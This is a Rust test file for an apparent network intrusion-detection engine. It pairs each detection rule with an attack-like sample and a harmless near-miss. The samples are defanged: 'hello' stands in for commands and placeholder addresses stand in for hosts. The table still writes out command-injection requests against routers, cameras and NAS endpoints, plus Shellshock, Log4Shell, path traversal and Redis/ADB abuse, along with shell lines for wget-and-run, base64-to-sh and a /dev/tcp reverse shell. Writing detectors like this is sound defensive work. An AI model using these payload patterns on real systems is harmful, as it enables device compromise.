//! Each built-in rule: something like an attack in which nothing is harmful holds, and what is ordinary does not.

use std::borrow::Cow;
use std::collections::BTreeSet;

use komainu_decode::smb::{self, Detail, Exchange, Open};
use komainu_decode::{Command, Fact, Place, Protocol, Side, Transport};
use komainu_intel::{BUILT_IN_RULES, RuleList};

use crate::scene::{START, Session, built_in, sids};

/// What is said: a request with a path, with a header, with a body; bytes at a port; a command; a pipe of SMB.
enum Said {
    Get(&'static str),
    Header(&'static str),
    Cookie(&'static str, &'static str),
    Post(&'static str, &'static str),
    Soap(&'static str, &'static str, &'static str),
    Stream(u16, &'static [u8]),
    Datagram(u16, &'static [u8]),
    Ftp(&'static str),
    Shell(&'static str),
    Pipe(&'static str),
}

use Said::{Cookie, Datagram, Ftp, Get, Header, Pipe, Post, Shell, Soap, Stream};

const IGD: &str = "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping";
const NTP: &str = "urn:dslforum-org:service:Time:1#SetNTPServers";

/// The rule, what it is for, and what is much like it and nothing.
const CASES: &[(u32, Said, Said)] = &[
    (
        1,
        Post("/ctrlt/DeviceUpgrade_1", "<NewStatusURL>$(hello)</NewStatusURL>"),
        Post("/ctrlt/DeviceUpgrade_1", "<NewStatusURL>http://192.0.2.1/a</NewStatusURL>"),
    ),
    (
        2,
        Soap("/wanipcn", IGD, "<NewInternalClient>`hello`</NewInternalClient>"),
        Soap("/wanipcn", IGD, "<NewInternalClient>192.0.2.9</NewInternalClient>"),
    ),
    (3, Post("/picsdesc.xml", "hello"), Get("/picsdesc.xml")),
    (
        4,
        Header("SOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings/`hello`\""),
        Header("SOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings\""),
    ),
    (5, Get("/HNAP1/"), Get("/a/HNAP1/")),
    (
        6,
        Soap("/UD/act?1", NTP, "<NewNTPServer1>`hello`</NewNTPServer1>"),
        Soap("/UD/act?1", NTP, "<NewNTPServer1>ntp.example.org</NewNTPServer1>"),
    ),
    (7, Get("/GponForm/diag_Form?images/"), Get("/GponForm/diag_Form")),
    (8, Post("/GponForm/diag_Form?images/", "dest_host=`hello`"), Post("/GponForm/diag_Form?images/", "dest_host=a")),
    (
        9,
        Get("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(hello)"),
        Get("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=JP"),
    ),
    (
        10,
        Post("/cgi-bin/luci/;stok=/locale", "operation=write&country=%24(hello)"),
        Post("/cgi-bin/luci/;stok=/locale", "operation=write&country=JP"),
    ),
    (
        11,
        Post("/apply_sec.cgi", "html_response_page=a&action=ping_test&ping_ipaddr=192.0.2.1%0ahello"),
        Post("/apply_sec.cgi", "action=ping_test&ping_ipaddr=192.0.2.1"),
    ),
    (
        12,
        Post("/cgi-bin/mainfunction.cgi", "action=login&keyPath='hello&loginUser=a"),
        Post("/cgi-bin/mainfunction.cgi", "action=login&keyPath=a&loginUser=a"),
    ),
    (
        13,
        Post("/cgi-bin/mainfunction.cgi/cvmcfgupload", "filename=\"a;hello\"\r\n"),
        Post("/cgi-bin/mainfunction.cgi/cvmcfgupload", "name=\"a\"; filename=\"a\"\r\n"),
    ),
    (
        14,
        Post("/ztp/cgi-bin/handler", "{\"command\":\"setWanPortSt\",\"mtu\":\"; hello\"}"),
        Post("/ztp/cgi-bin/handler", "{\"command\":\"setWanPortSt\",\"mtu\":\"1500\"}"),
    ),
    (15, Post("/goform/formWsc", "peerPin=1;hello"), Post("/goform/formWsc", "peerPin=12345670")),
    (16, Datagram(9034, b"orf;hello"), Datagram(9034, b"hello orf;")),
    (17, Get("/setup.cgi?next_file=a&todo=syscmd&cmd=hello"), Get("/setup.cgi?next_file=a")),
    (18, Get("/cgi-bin/;hello"), Get("/cgi-bin/hello")),
    (19, Post("/tmUnblock.cgi", "ttcp_ip=-h+`hello`"), Post("/tmUnblock.cgi", "ttcp_ip=192.0.2.1")),
    (20, Post("/apply.cgi", "submit_button=Diagnostics&ping_ip=`hello`"), Post("/apply.cgi", "ping_ip=192.0.2.1")),
    (21, Get("/goform/setUsbUnload/.js?deviceName=A;hello"), Get("/goform/setUsbUnload?deviceName=A")),
    (
        22,
        Post("/cgi-bin/cstecgi.cgi", "{\"topicurl\":\"setting/x\",\"hostName\":\"a;hello\"}"),
        Post("/cgi-bin/cstecgi.cgi", "{\"topicurl\":\"setting/x\",\"hostName\":\"a\"}"),
    ),
    (
        32,
        Post("/cgi-bin/cstecgi.cgi", "{\"topicurl\":\"setting/setUpgradeFW\",\"FileName\":\";hello\"}"),
        Post("/cgi-bin/cstecgi.cgi", "{\"topicurl\":\"setting/setUpgradeFW\",\"FileName\":\"a\"}"),
    ),
    (23, Get("/images/..%2fapply_abstract.cgi"), Get("/images/a.png")),
    (24, Get("/ping.cgi?pingIpAddress=192.0.2.1;hello"), Get("/ping.cgi?pingIpAddress=192.0.2.1")),
    (
        25,
        Post("/cgi-bin/ViewLog.asp", "remote_submit_Flag=1&remote_host=;hello"),
        Post("/cgi-bin/ViewLog.asp", "remote_host=a"),
    ),
    (
        33,
        Post("/cgi-bin/adv_remotelog.asp", "RemotelogEnable=1&syslogServerAddr=1.1.1.1;hello"),
        Post("/cgi-bin/adv_remotelog.asp", "syslogServerAddr=192.0.2.1"),
    ),
    (26, Post("/UD/?3", "hello"), Get("/UD/")),
    (28, Post("/command.php", "cmd=hello"), Post("/command.php", "a=b")),
    (
        29,
        Post("/getcfg.php", "SERVICES=DEVICE.ACCOUNT&AUTHORIZED_GROUP=1"),
        Post("/getcfg.php", "SERVICES=DEVICE.TIME&AUTHORIZED_GROUP=1"),
    ),
    (30, Get("/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15"), Get("/cgi-bin/nas_sharing.cgi?user=a")),
    (
        34,
        Get("/cgi-bin/nas_sharing.cgi?user=a&passwd=&cmd=15&system=aGVsbG8="),
        Get("/cgi-bin/nas_sharing.cgi?user=a&cmd=15"),
    ),
    (31, Get("/cgi-bin/a.cgi?cmd=a;hello"), Get("/cgi-bin/a.cgi?cmd=hello")),
    (101, Get("/Security/users?auth=YWRtaW46MTEK"), Get("/Security/users?auth=a")),
    (
        102,
        Post("/SDK/webLanguage", "<?xml version=\"1.0\"?><language>$(hello)</language>"),
        Post("/SDK/webLanguage", "<?xml version=\"1.0\"?><language>en</language>"),
    ),
    (103, Cookie("/device.rsp?opt=user&cmd=list", "uid=admin"), Cookie("/device.rsp?opt=user&cmd=list", "uid=a")),
    (
        104,
        Get("/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=;hello"),
        Get("/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=hello"),
    ),
    (105, Get("/shell?hello"), Get("/a/shell?hello")),
    (106, Get("/board.cgi?cmd=hello"), Get("/board.cgi?a=hello")),
    (
        107,
        Get("/cgi-bin/nobody/Search.cgi?action=cgi_query&username=admin;hello"),
        Get("/cgi-bin/nobody/Search.cgi?action=cgi_query&username=admin"),
    ),
    (
        108,
        Get("/cgi-bin/supervisor/Factory.cgi?action=white_led&brightness=$(hello)"),
        Get("/cgi-bin/supervisor/Factory.cgi?action=white_led&brightness=5"),
    ),
    (109, Get("/language/Swedish${IFS}hello"), Get("/language/Swedish/index.html")),
    (110, Post("/z/zbin/dvr_box", "hello"), Post("/zbin/dvr_box", "hello")),
    (
        111,
        Post("/RPC2_Login", "{\"params\":{\"clientType\":\"NetKeyboard\"}}"),
        Post("/RPC2_Login", "{\"params\":{\"clientType\":\"Web3.0\"}}"),
    ),
    (
        119,
        Post("/RPC2_Login", "{\"params\":{\"loginType\":\"Loopback\"}}"),
        Post("/RPC2_Login", "{\"params\":{\"loginType\":\"Direct\"}}"),
    ),
    (112, Get("/current_config/passwd"), Get("/current_config/a")),
    (113, Get("/system.ini?loginuse&loginpas"), Get("/system.ini")),
    (114, Get("/set_ftp.cgi?svr=192.0.2.1&user=a&pwd=$(hello)"), Get("/set_ftp.cgi?svr=192.0.2.1&user=a&pwd=b")),
    (
        115,
        Post("/camera-cgi/admin/param.cgi", "action=update&ipcamSource=/ntp.asp?NTP_serverName=;hello"),
        Post("/camera-cgi/admin/param.cgi", "action=update&ipcamSource=/ntp.asp?NTP_serverName=ntp.example.org"),
    ),
    (117, Get("/%2e%2e/../mnt/mtd/Config/Account1"), Get("/mnt/mtd/")),
    (118, Stream(9530, b"OpenTelnet:OpenOnce"), Stream(9530, b"OpenTelnet:hello")),
    (201, Pipe("/data/share/hello.so"), Pipe("srvsvc")),
    (202, Pipe("/data/share/hello"), Pipe("sql\\query")),
    (203, Get("/adv,/cgi-bin/weblogin.cgi?username=admin';hello"), Get("/cgi-bin/weblogin.cgi?username=admin")),
    (204, Post("/photo/p/api/video.php", "hello"), Get("/photo/p/api/album.php")),
    (
        223,
        Post("/photo/p/api/video.php", "album=a&a=caption&filename=./../../hello"),
        Post("/photo/p/api/video.php", "album=a&a=caption&filename=hello"),
    ),
    (205, Cookie("/cgi-bin/authLogin.cgi", "a\r\nUser-Agent: () { :; }; hello"), Get("/cgi-bin/authLogin.cgi")),
    (206, Header("User-Agent: () { :; }; hello"), Header("User-Agent: (hello) {}")),
    (207, Header("X-Api: ${jndi:dns://hello.example/a}"), Header("X-Api: jndi:hello")),
    (208, Get("/cgi-bin/.%2e/.%2e/hello"), Get("/cgi-bin/%2e/hello")),
    (209, Get("/a?file=../../../etc/passwd"), Get("/a?file=etc/passwd")),
    (
        210,
        Post("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "<?php // hello"),
        Post("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "hello"),
    ),
    (220, Get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), Get("/vendor/phpunit/phpunit/")),
    (211, Get("/index.php?s=/Index/\\think\\app/invokefunction&function=hello"), Get("/index.php?s=/Index/think")),
    (212, Post("/hello.php?-d+allow_url_include%3d1", "hello"), Get("/hello.php?d=1")),
    (221, Post("/hello.php?%ADd+allow_url_include%3d1", "hello"), Get("/hello.php?-d+a")),
    (
        213,
        Post("/actuator/gateway/routes/hello", "{\"filters\":[{\"args\":{\"value\":\"#{hello}\"}}]}"),
        Post("/actuator/gateway/routes/hello", "{}"),
    ),
    (214, Post("/v1.24/containers/create?name=hello", "{}"), Get("/v1.24/containers/json")),
    (215, Post("/containers/abc/exec", "{}"), Get("/exec/abc/json")),
    (216, Post("/script", "hello"), Get("/script")),
    (222, Post("/ws/v1/cluster/apps/new-application", ""), Get("/ws/v1/cluster/apps/new-application")),
    (217, Get("/+CSCOE+/logon.html"), Get("/logon.html")),
    (218, Get("/remote/fgt_lang?lang=/../../../hello"), Get("/remote/fgt_lang?lang=en")),
    (219, Get("/.git/config"), Get("/git/config")),
    (301, Get("/a?ip=1;wget+http://192.0.2.1/hello"), Get("/a?q=wget+manual")),
    (302, Post("/a", "ip=;wget${IFS}http://192.0.2.1/hello"), Post("/a", "text=wget is a program")),
    (303, Shell("cd /tmp; wget http://192.0.2.1/hello"), Shell("wget --help")),
    (304, Shell("echo -ne '\\x68\\x65\\x6c\\x6c\\x6f' > /tmp/hello"), Shell("echo hello > /tmp/hello")),
    (305, Shell("chmod 777 /tmp/hello"), Shell("chmod 640 /tmp/hello")),
    (306, Shell("/bin/busybox HELLO"), Shell("/bin/busybox ls")),
    (307, Shell("echo aGVsbG8= | base64 -d | sh"), Shell("echo aGVsbG8= | base64 -d")),
    (308, Shell("sh -i > /dev/tcp/192.0.2.1/80"), Shell("nc -l 80")),
    (309, Shell("echo hello >> ~/.ssh/authorized_keys"), Shell("cat ~/.ssh/authorized_keys")),
    (310, Shell("ps | grep xmrig"), Shell("ps | grep init")),
    (
        401,
        Stream(5555, b"CNXN\0\0\0\x01\0\0\x10\0\0\0\0\0\0\0\0\0\xbc\xb1\xa7\xb1OPEN\x01\0\0\0shell:hello\0"),
        Stream(5555, b"CNXN\0\0\0\x01\0\0\x10\0\0\0\0\0\0\0\0\0\xbc\xb1\xa7\xb1"),
    ),
    (
        402,
        Stream(6379, b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$5\r\n/tmp/\r\n"),
        Stream(6379, b"*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$3\r\ndir\r\n"),
    ),
    (403, Stream(6379, b"SLAVEOF 192.0.2.1 6379\r\n"), Stream(6379, b"SLAVEOF NO ONE\r\n")),
    (404, Stream(6379, b"MODULE LOAD /tmp/hello.so\r\n"), Stream(6379, b"MODULE LIST\r\n")),
    (405, Stream(8291, b"\x68\x01\0\x66M2\x07/./.././.././../hello"), Stream(8291, b"\x68\x01\0\x66M2list")),
    (406, Post("/jsproxy", "hello"), Get("/jsproxy")),
    (
        407,
        Stream(4786, b"\0\0\0\x01\0\0\0\x01\0\0\0\x08\0\0\x04\x08\0\0\0\x01\0\0\0\0"),
        Stream(4786, b"\0\0\0\x01\0\0\0\x02"),
    ),
    (408, Stream(1883, MQTT_ALL), Stream(1883, MQTT_ONE)),
    (412, Stream(6379, b"REPLICAOF 192.0.2.1 6379\r\n"), Stream(6379, b"REPLICAOF NO ONE\r\n")),
    (
        409,
        Datagram(5060, b"OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nUser-Agent: friendly-scanner\r\nCall-ID: 1\r\n\r\n"),
        Datagram(5060, b"OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nUser-Agent: phone\r\nCall-ID: 1\r\n\r\n"),
    ),
    (410, Ftp("SITE CPFR /hello"), Ftp("SITE CHMOD 600 hello")),
    (411, Stream(554, b"DESCRIBE rtsp://192.0.2.1/live RTSP/1.0\r\nCSeq: 1\r\n\r\n"), Stream(554, RTSP_OPTIONS)),
    (
        501,
        Datagram(1900, b"M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\nMAN: \"ssdp:discover\"\r\n\r\n"),
        Datagram(1900, b"NOTIFY * HTTP/1.1\r\nNTS: ssdp:alive\r\n\r\n"),
    ),
    (
        502,
        Datagram(3702, b"<s:Envelope><a>http://schemas.xmlsoap.org/ws/2005/04/discovery/Probe</a>"),
        Datagram(3702, b"<a/>"),
    ),
    (503, Datagram(161, SNMP_BULK), Datagram(161, SNMP_GET)),
    (504, Datagram(123, b"\x17\x00\x03\x2a\0\0\0\0"), Datagram(123, b"\x23\0\0\0\0\0\0\0")),
    (505, Datagram(11211, b"\0\0\0\0\0\x01\0\0stats\r\n"), Datagram(11211, b"\0\0\0\0\0\x01\0\0version\r\n")),
    (506, Datagram(69, b"\0\x01/x\0netascii\0"), Datagram(69, b"\0\x01firmware.bin\0octet\0")),
];

const MQTT_ALL: &[u8] = b"\x10\x0d\0\x04MQTT\x04\x02\0\x3c\0\x01a\x82\x06\0\x01\0\x01#\0";
const MQTT_ONE: &[u8] = b"\x10\x0d\0\x04MQTT\x04\x02\0\x3c\0\x01a\x82\x06\0\x01\0\x01a\0";
const RTSP_OPTIONS: &[u8] = b"OPTIONS * RTSP/1.0\r\nCSeq: 1\r\n\r\n";
const SNMP_BULK: &[u8] =
    b"\x30\x26\x02\x01\x01\x04\x06public\xa5\x19\x02\x01\x01\x02\x01\x00\x02\x01\x0a\x30\x0e\x30\x0c\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00\x05\x00";
const SNMP_GET: &[u8] =
    b"\x30\x26\x02\x01\x01\x04\x06public\xa0\x19\x02\x01\x01\x02\x01\x00\x02\x01\x00\x30\x0e\x30\x0c\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00\x05\x00";

fn alerts(classifier: &std::sync::Arc<komainu_intel::Classifier>, said: &Said) -> Vec<u32> {
    let http = |text: String| sids(classifier, Transport::Tcp, 80, &[(Side::Client, text.as_bytes())]).0;
    let post = |path: &str, headers: &str, body: &str| {
        http(format!("POST {path} HTTP/1.1\r\nHost: a\r\n{headers}Content-Length: {}\r\n\r\n{body}", body.len()))
    };
    match said {
        Get(path) => http(format!("GET {path} HTTP/1.1\r\nHost: a\r\n\r\n")),
        Header(line) => http(format!("GET /a HTTP/1.1\r\nHost: a\r\n{line}\r\n\r\n")),
        Cookie(path, cookie) => http(format!("GET {path} HTTP/1.1\r\nHost: a\r\nCookie: {cookie}\r\n\r\n")),
        Post(path, body) => post(path, "", body),
        Soap(path, action, body) => post(path, &format!("SOAPAction: \"{action}\"\r\n"), body),
        Stream(port, bytes) => sids(classifier, Transport::Tcp, *port, &[(Side::Client, bytes)]).0,
        Datagram(port, bytes) => sids(classifier, Transport::Udp, *port, &[(Side::Client, bytes)]).0,
        Ftp(line) => {
            let line = format!("{line}\r\n");
            let said: [(Side, &[u8]); 3] =
                [(Side::Server, b"220 ready\r\n"), (Side::Client, line.as_bytes()), (Side::Server, b"350 go on\r\n")];
            sids(classifier, Transport::Tcp, 21, &said).0
        }
        Shell(line) => {
            let mut session = Session::new(classifier, Transport::Tcp, 22);
            let place = Place { side: Side::Client, offset: 0, bytes: 0 };
            session.watch.fact(START, place, &Fact::Command(Command { line: line.as_bytes() }));
            session.end().0
        }
        Pipe(name) => {
            let mut session = Session::new(classifier, Transport::Tcp, 445);
            session.watch.protocol(START, Protocol::Smb);
            let target = if name.contains(['/', '\\']) { smb::Target::PipePath } else { smb::Target::Pipe };
            let open = Open { name: Cow::Borrowed(name.as_bytes()), target, ..Open::default() };
            let exchange = Exchange {
                command: smb::Command::V2(5),
                status: None,
                message_id: 1,
                session_id: 1,
                tree_id: 1,
                dialect: None,
                detail: Detail::Open(Box::new(open)),
            };
            let place = Place { side: Side::Client, offset: 0, bytes: 100 };
            session.watch.fact(START, place, &Fact::Smb(smb::Event::Exchange(exchange)));
            session.end().0
        }
    }
}

#[test]
fn each_rule_holds_for_what_it_is_for() {
    let classifier = built_in();
    let mut wrong = Vec::new();
    for (number, attack, ordinary) in CASES {
        let sid = 1_000_000 + number;
        let (held, other) = (alerts(&classifier, attack), alerts(&classifier, ordinary));
        if !held.contains(&sid) || other.contains(&sid) {
            wrong.push((sid, held, other));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn each_rule_is_tested_and_says_what_it_is() {
    let mut list = RuleList::default();
    assert_eq!(list.add(BUILT_IN_RULES), []);
    let written: BTreeSet<u32> =
        BUILT_IN_RULES.lines().filter_map(|line| line.rsplit_once("sid:")?.1.split(';').next()?.parse().ok()).collect();
    let tested: BTreeSet<u32> = CASES.iter().map(|(number, ..)| 1_000_000 + number).collect();
    assert_eq!(written, tested);
    assert_eq!(list.len(), written.len());
    for line in BUILT_IN_RULES.lines().filter(|line| line.starts_with("alert")) {
        assert!(line.contains("mitre_technique_id") && line.contains("classtype:"), "{line}");
    }
}

#[test]
fn ordinary_requests_hold_for_nothing() {
    let classifier = built_in();
    for said in [
        Get("/"),
        Get("/index.html?page=2&lang=en"),
        Post("/login.cgi", "user=admin&password=secret"),
        Post("/upnp/control/WANIPConn1", "<NewInternalClient>192.168.1.9</NewInternalClient>"),
        Shell("ls -l /tmp; uname -a; cat /proc/cpuinfo"),
        Stream(22, b"SSH-2.0-OpenSSH_9.6\r\n"),
        Stream(6379, b"*1\r\n$4\r\nPING\r\n"),
    ] {
        assert_eq!(alerts(&classifier, &said), [0u32; 0]);
    }
}
